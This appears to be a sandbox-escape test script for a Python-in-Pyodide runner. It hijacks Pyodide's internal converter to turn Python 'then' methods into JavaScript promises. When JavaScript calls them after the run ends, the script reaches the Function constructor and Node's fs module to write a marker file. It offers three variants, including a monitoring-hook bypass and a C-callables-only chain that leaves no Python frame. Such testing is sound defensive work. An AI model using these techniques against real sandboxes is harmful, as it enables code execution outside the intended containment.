# Attack: a converter object Pyodide keeps alive makes Python objects with a `then` into JavaScript promises; JavaScript calls `then(resolve, reject)` after the run is over, untraced, handing over JavaScript functions (and so Function): a plain method, one watched by a monitoring tool of the program's own (its callback runs first), and one made of C callables only. Where Function may make code (Node), each leaves a marker file.
# Prints "armed: ..." per promise made (the attack then waits for the run to end), "blocked: ..." when one could not be.
import asyncio, functools, gc, itertools, operator, sys

# The program's globals are cleared at its end: what then() needs is named where it is used.
LEAVE_MARKER = ("globalThis.process?.getBuiltinModule?.('node:fs')"
                "?.writeFileSync('/tmp/looplab-attack-31-escaped', 'then() ran after the run')")


class Thenable:
    def then(self, resolve, reject):
        resolve.constructor("globalThis.process?.getBuiltinModule?.('node:fs')"
                            "?.writeFileSync('/tmp/looplab-attack-31-escaped', 'then() ran')")()


class Watched:
    def then(self, resolve, reject):
        pass


def on_start(code, offset):  # sys.monitoring tool 5: called before the tracer's tool 4
    if code.co_name == "then":
        resolve = sys._getframe(1).f_locals.get("resolve")
        if resolve is not None:
            resolve.constructor("globalThis.process?.getBuiltinModule?.('node:fs')"
                                "?.writeFileSync('/tmp/looplab-attack-31-escaped', 'a tool ran')")()


class Box:
    pass


def converter():
    gc.unfreeze()
    found = [o for o in gc.get_objects() if type(o).__name__ == "Js2PyConverter"]
    if not found:
        raise LookupError("no converter")
    return found[0]


def c_only_thenables():
    # then(resolve, reject) → max(resolve, reject, key=store.append) keeps both; the second
    # then() drains a map that calls resolve.constructor(code)(): no Python frame anywhere.
    store = []
    functions = map(getattr, iter(store), itertools.repeat("constructor"))
    ran = map(operator.call, map(operator.call, functions, itertools.repeat(LEAVE_MARKER)))
    keep = Box()
    keep.then = functools.partial(max, key=store.append)
    drain = Box()
    drain.then = functools.partial(set().update, ran)
    return keep, drain


async def main():
    try:
        mon = sys.monitoring
        mon.use_tool_id(5, "attacker")
        mon.register_callback(5, mon.events.PY_START, on_start)
        mon.set_events(5, mon.events.PY_START)
    except BaseException as error:  # noqa: BLE001 - any failure is an expected outcome
        print(f"blocked: a monitoring tool of its own: {type(error).__name__}")
    for label, make in (("a plain then()", lambda: [Thenable()]), ("a watched then()", lambda: [Watched()]),
                        ("then() of C callables only", c_only_thenables)):
        try:
            conv = converter()
            sys._looplab_attack_keep = getattr(sys, "_looplab_attack_keep", []) + [
                conv.js2py_convert(thing) for thing in make()]
        except BaseException as error:  # noqa: BLE001 - any failure is an expected outcome
            print(f"blocked: {label}: {type(error).__name__}")
        else:
            print(f"armed: {label}")


asyncio.run(main())
